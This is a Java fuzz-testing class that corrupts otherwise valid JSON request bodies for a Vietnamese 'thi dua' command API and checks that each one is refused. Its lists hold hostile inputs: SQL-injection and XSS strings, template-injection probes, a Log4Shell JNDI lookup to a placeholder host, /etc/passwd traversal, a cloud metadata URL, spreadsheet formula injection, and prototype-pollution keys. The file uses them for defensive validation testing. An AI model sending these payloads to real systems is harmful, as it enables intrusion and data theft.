package vn.thidua.command.fuzz;

import java.math.BigDecimal;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.function.Predicate;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** One thing wrong with a body that is right in all others. */
final class Spoil {
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final int REFUSED = 400;
    private static final int LARGEST = 512 * 1024;
    private static final int MOST_COPIES = 3_000;

    private static final List<String> NO_FIELDS =
            List.of(
                    "actor",
                    "unit",
                    "recordedAt",
                    "position",
                    "standing",
                    "vouched",
                    "isAdmin",
                    "role",
                    "@class",
                    "@type",
                    "class",
                    "__proto__",
                    "constructor",
                    "$where",
                    "Bloc",
                    "",
                    Values.MARK);

    private static final List<String> NO_IDS =
            List.of(
                    "Nha",
                    "nhà",
                    "-nha",
                    "nha-",
                    "n_ha",
                    "nha ",
                    "nha\n",
                    "nha\u0000",
                    "../nha",
                    "nha/ben",
                    "nha%2fben",
                    "bloc:nha",
                    "nha'--",
                    "<b>nha</b>",
                    "${nha}",
                    "{{7*7}}",
                    "nh\u0430",
                    "ｎｈａ",
                    "n".repeat(65),
                    "");

    private static final List<String> NO_DAYS =
            List.of(
                    "2025-02-29",
                    "2025-02-30",
                    "2025-13-01",
                    "2025-00-10",
                    "2025-04-31",
                    "1899-12-31",
                    "2200-01-01",
                    "0000-00-00",
                    "2025-1-5",
                    "20250105",
                    "05/01/2025",
                    "2025-01-05T00:00:00Z",
                    "+12025-01-05",
                    "２０２５-01-05",
                    "hôm nay",
                    "");

    /** What does not show, or shows otherwise than it is. */
    private static final List<String> NOT_SHOWN =
            List.of(
                    "\u0000",
                    "\u0007",
                    "\u001b[31m",
                    "\u0085",
                    "\u009b",
                    "\ud83d",
                    "\ude00",
                    "\u202e",
                    "\u202a",
                    "\u2066",
                    "\u2069",
                    "\u200e",
                    "\u200f",
                    "\u061c",
                    "\u200b",
                    "\u200d",
                    "\u2060",
                    "\ufeff",
                    "\u00ad",
                    "\udb40\udc41",
                    "\u2028",
                    "\u3164",
                    "\ufe0f",
                    "\uffff",
                    "\ue000");

    private static final List<String> FRAGMENTS =
            List.of(
                    "'; drop table boards; --",
                    "1' or '1'='1",
                    "$$; select 1; $$",
                    "\\'; --",
                    "<script>alert(1)</script>",
                    "\"><img src=x onerror=alert(1)>",
                    "${7*7}",
                    "#{7*7}",
                    "{{7*7}}",
                    "__${7*7}__::.x",
                    "<%= 7*7 %>",
                    "${jndi:ldap://x.example/a}",
                    "%s%s%n",
                    "{0}{field}{max}",
                    "=cmd|' /C calc'!A0",
                    "../../etc/passwd",
                    "file:///etc/passwd",
                    "http://169.254.169.254/",
                    "\\u0000",
                    "&lt;&#x0;");

    /** Half a character cannot be sent but by its number. */
    private static final Pattern HALVES = Pattern.compile("\\p{Cs}");

    private final Draft draft;
    private final Dice dice;
    private final List<Place> places = new ArrayList<>();

    private Spoil(Draft draft, Dice dice) {
        this.draft = draft;
        this.dice = dice;
        walk(draft.json, draft.schema);
    }

    /** A member of an object somewhere in the body, and what it ought to be. */
    private record Place(ObjectNode in, String name, JsonNode schema, boolean isRequired) {
        JsonNode value() {
            return in.path(name);
        }

        boolean is(String type) {
            return schema.path("type").asString("").equals(type);
        }

        boolean isText() {
            return is("string") && schema.has("maxLength");
        }

        boolean isId() {
            return Values.isId(schema);
        }
    }

    /** One thing, whichever. */
    static void one(Draft draft, Dice dice) {
        new Spoil(draft, dice).one();
        draft.say(HALVES.matcher(draft.json.toString()).replaceAll(Spoil::escaped));
        if (draft.body.length > LARGEST) {
            draft.spoilt(draft.kind, 413);
        }
    }

    private static String escaped(MatchResult half) {
        return "\\\\u%04x".formatted((int) half.group().charAt(0));
    }

    private void one() {
        switch (dice.below(17)) {
            case 0 -> missing();
            case 1 -> unknownField();
            case 2 -> wrongType();
            case 3 -> put("null", Place::isRequired, _ -> JSON.nullNode());
            case 4 -> put("number below", Spoil::isNumber, this::below);
            case 5 -> put("number above", Spoil::isNumber, this::above);
            case 6 -> put("decimals", Spoil::isNumber, this::tooFine);
            case 7 -> put("text too long", Place::isText, this::tooLong);
            case 8 -> put("text blank", Place::isText, _ -> JSON.stringNode(blank()));
            case 9 -> put("text not shown", Place::isText, place -> with(place, NOT_SHOWN));
            case 10 -> put("no id", Place::isId, _ -> JSON.stringNode(dice.of(NO_IDS)));
            case 11 -> put("no value", place -> place.schema.has("enum"), _ -> noValue());
            case 12 -> put("no day", Spoil::isDay, _ -> JSON.stringNode(dice.of(NO_DAYS)));
            case 13 -> put("list too long", place -> place.is("array"), this::tooMany);
            case 14 -> otherBoard();
            case 15 -> decomposed();
            default -> fragment();
        }
    }

    private void walk(JsonNode value, JsonNode schema) {
        if (value instanceof ObjectNode object) {
            var required = schema.path("required");
            schema.path("properties")
                    .properties()
                    .forEach(p -> visit(object, p.getKey(), p.getValue(), required));
        } else if (value instanceof ArrayNode array) {
            array.forEach(item -> walk(item, schema.get("items")));
        }
    }

    private void visit(ObjectNode object, String name, JsonNode schema, JsonNode required) {
        var value = object.path(name);
        var own = schema.has("oneOf") ? schema.get("oneOf").get(0) : schema;
        if (!value.isMissingNode() && !value.isNull()) {
            boolean isRequired =
                    IntStream.range(0, required.size())
                            .anyMatch(i -> required.get(i).stringValue().equals(name));
            places.add(new Place(object, name, own, isRequired));
            walk(value, own);
        }
    }

    private Optional<Place> any(Predicate<Place> wanted) {
        var found = places.stream().filter(wanted).toList();
        return found.isEmpty() ? Optional.empty() : Optional.of(dice.of(found));
    }

    private interface Change {
        JsonNode instead(Place place);
    }

    /** Where the command has no such place, it gets a field that it does not know. */
    private void put(String how, Predicate<Place> wanted, Change change) {
        any(wanted)
                .ifPresentOrElse(
                        place -> {
                            place.in.set(place.name, change.instead(place));
                            draft.spoilt(how, REFUSED);
                        },
                        this::unknownField);
    }

    private void missing() {
        any(Place::isRequired).ifPresent(place -> place.in.remove(place.name));
        draft.spoilt("field missing", REFUSED);
    }

    private void unknownField() {
        var objects = new ArrayList<ObjectNode>(List.of(draft.json));
        places.forEach(place -> {
            if (place.value() instanceof ObjectNode object) {
                objects.add(object);
            }
        });
        dice.of(objects).put(dice.of(NO_FIELDS), Values.MARK);
        draft.spoilt("field unknown", REFUSED);
    }

    private void wrongType() {
        put(
                "wrong type",
                _ -> true,
                place ->
                        switch (place.schema.path("type").asString("")) {
                            case "string" -> dice.oneIn(2) ? JSON.numberNode(7) : JSON.arrayNode();
                            case "object" -> dice.oneIn(2) ? JSON.arrayNode() : JSON.stringNode("");
                            case "array" -> JSON.objectNode();
                            case "boolean" -> JSON.stringNode("true");
                            default -> JSON.stringNode("7");
                        });
    }

    private static boolean isNumber(Place place) {
        return place.is("integer") || place.is("number");
    }

    private JsonNode below(Place place) {
        return JSON.numberNode(place.schema.get("minimum").longValue() - 1);
    }

    private JsonNode above(Place place) {
        return JSON.numberNode(place.schema.get("maximum").longValue() + 1);
    }

    private JsonNode tooFine(Place place) {
        int decimals = place.is("integer") ? 0 : Values.decimals(place.schema);
        return JSON.numberNode(new BigDecimal("1." + "0".repeat(decimals) + "1"));
    }

    private JsonNode tooLong(Place place) {
        var letter = dice.oneIn(2) ? "ộ" : "😀";
        return JSON.stringNode(letter.repeat(place.schema.get("maxLength").intValue() + 1));
    }

    private String blank() {
        return dice.of(List.of("", " ", "\t\n", "\u00a0\u2003", "\u3000"));
    }

    private JsonNode with(Place place, List<String> parts) {
        var text = place.value().asString("");
        int most = place.schema.get("maxLength").intValue() - 25;
        var room = text.codePointCount(0, text.length()) > most ? Values.MARK : text;
        return JSON.stringNode(room + dice.of(parts) + "x");
    }

    private JsonNode noValue() {
        return JSON.stringNode(dice.of(List.of("", "0", "leader", "HEAD ", "NULL", Values.MARK)));
    }

    private static boolean isDay(Place place) {
        return place.schema.has("format");
    }

    private JsonNode tooMany(Place place) {
        var array = JSON.arrayNode();
        int most = Math.min(place.schema.get("maxItems").intValue() + 1, MOST_COPIES);
        var first = place.value().isEmpty() ? JSON.stringNode("nha") : place.value().get(0);
        IntStream.range(0, most).forEach(_ -> array.add(first));
        return array;
    }

    /** Of a bloc in which these people are nobody. */
    private void otherBoard() {
        draft.json.put("bloc", draft.world.other());
        draft.spoilt("another bloc");
    }

    /** As some keyboards and spreadsheets write Vietnamese: the marks beside their letters. */
    private void decomposed() {
        any(Place::isText)
                .ifPresent(place -> {
                    var text = "Khối " + Values.MARK + " các Khu kinh tế ệ";
                    var apart = Normalizer.normalize(text, Normalizer.Form.NFD);
                    int most = place.schema.get("maxLength").intValue();
                    place.in.put(place.name, apart.substring(0, Math.min(most, apart.length())));
                });
        draft.spoilt("text decomposed");
    }

    /** In a text they are words like others, in an id they are none. */
    private void fragment() {
        if (dice.oneIn(2)) {
            put("fragment as id", Place::isId, _ -> JSON.stringNode(dice.of(FRAGMENTS)));
        } else {
            any(Place::isText).ifPresent(place -> place.in.set(place.name, with(place, FRAGMENTS)));
            draft.spoilt("fragment in text");
        }
    }
}
